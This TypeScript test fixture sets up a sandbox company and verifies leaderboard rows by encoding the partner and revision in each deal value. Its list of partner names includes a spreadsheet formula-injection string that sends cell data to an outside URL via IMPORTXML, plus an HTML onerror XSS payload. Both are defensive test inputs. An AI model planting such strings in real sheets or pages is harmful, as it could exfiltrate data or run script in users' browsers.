import type { Random } from '../../workbench/random';
import type { Company } from '../../workbench/sandbox/sandbox';

/** A few, or so many that Journeybee lists no more of them in one answer. */
const sizes = { few: 12, many: 130 } as const;
const day = '2026-05-10';

/** Names as outsiders type them: what Sheets would read as something else, and what a page would. */
const names: readonly string[] = [
  '=IMPORTXML("https://example.org/"&A1,"//a")',
  '+49 30 901820',
  '@here',
  '-1',
  "'quoted",
  '2026-03',
  '1e3',
  'TRUE',
  '<img src=x onerror=alert(1)>',
  'شركة الشريك',
  '  spaces  ',
  'Ordinary & Sons',
];

/** A leaderboard that a block or a formula shows: which of the company's states it is of, and how many partners it lists. */
export interface Recognised {
  /** The oldest, where there are several. */
  readonly revision: number;
  readonly partners: number;
}

/** What a revenue is made of: which place among all its partner takes, which partner it is, and of which revision. */
const numberUnit = 10_000;
const orderUnit = 1000 * numberUnit;

const nameOf = (number: number): string => names[number] ?? `Partner ${number}`;

/**
 * A company of which every figure says when it was true: revenue is made of the partner's order, its number and the number
 * of times that the company has changed. So a table of two moments gives itself away.
 */
export class MarkedCompany {
  revision = 0;
  readonly #data: Company;
  readonly #random: Random;
  readonly #uuids: readonly string[];
  /** How many partners there are in each revision. */
  readonly #counts: number[] = [];

  constructor(data: Company, random: Random, size: keyof typeof sizes) {
    this.#data = data;
    this.#random = random;
    data.partners.splice(sizes[size]);
    data.deals.length = 0;
    data.leads.length = 0;
    for (const [index, partner] of data.partners.entries()) {
      partner.name = nameOf(index);
      partner.type = 'reseller';
    }
    this.#uuids = data.partners.map(({ uuid }) => uuid);
    this.#show();
  }

  /** Other figures, another order, more partners or fewer. */
  change(): void {
    this.revision += 1;
    this.#show();
  }

  partnersIn(revision: number): number {
    return this.#counts[revision] ?? 0;
  }

  #show(): void {
    const all = this.#uuids.length;
    const count = this.#random.integer(all > sizes.few ? 90 : 1, all);
    this.#counts[this.revision] = count;
    const order = this.#random.shuffled(Array.from({ length: count }, (_, place) => place + 1));
    this.#data.deals.length = 0;
    for (const [number, uuid] of this.#uuids.slice(0, count).entries()) {
      const value = (order[number] ?? 0) * orderUnit + number * numberUnit + this.revision;
      this.#data.addDeal({ partnerUuid: uuid, value, createdDay: day, status: 'won', closedDay: day });
    }
  }

  /**
   * What rows of rank, name and revenue show, or why they are no leaderboard of one moment. `gathered`: they come from several
   * answers, between which the company may have changed.
   */
  recognise(
    rows: ReadonlyArray<readonly [rank: unknown, name: unknown, revenue: unknown]>,
    gathered: boolean,
  ): Recognised | string {
    const revenues = rows.map(([, , revenue]) => revenue);
    const revisions = revenues.map((revenue) => (typeof revenue === 'number' ? revenue % numberUnit : Number.NaN));
    const oldest = rows.length === 0 ? this.revision : Math.min(...revisions);
    const newest = Math.max(oldest, ...revisions);
    if (!(oldest >= 0 && newest <= this.revision)) return `revenues of ${revenues.slice(0, 5).map(String).join(', ')}`;
    if (oldest !== newest && !gathered) return `rows of revisions ${[...new Set(revisions)].join(' and ')}`;
    const seen = new Set<unknown>();
    for (const [place, [rank, name, revenue]] of rows.entries()) {
      const partner = nameOf(Math.floor(Number(revenue) / numberUnit) % 1000);
      // Cells have single spaces, and none at either end.
      if (name !== partner.trim().replace(/ +/g, ' ')) return `${String(name)} with the revenue of ${partner}`;
      if (seen.has(name)) return `${partner} twice`;
      seen.add(name);
      if (rank !== place + 1) return `rank ${String(rank)} in place ${place + 1}`;
      if (place > 0 && Number(revenues[place - 1]) <= Number(revenue))
        return `rank ${String(rank)} below a lower revenue`;
    }
    return { revision: oldest, partners: rows.length };
  }

  /** The sum over the first so many, as totals have it. */
  static sum(rows: ReadonlyArray<readonly [unknown, unknown, unknown]>): number {
    return rows.reduce((sum, [, , revenue]) => sum + Number(revenue), 0);
  }
}
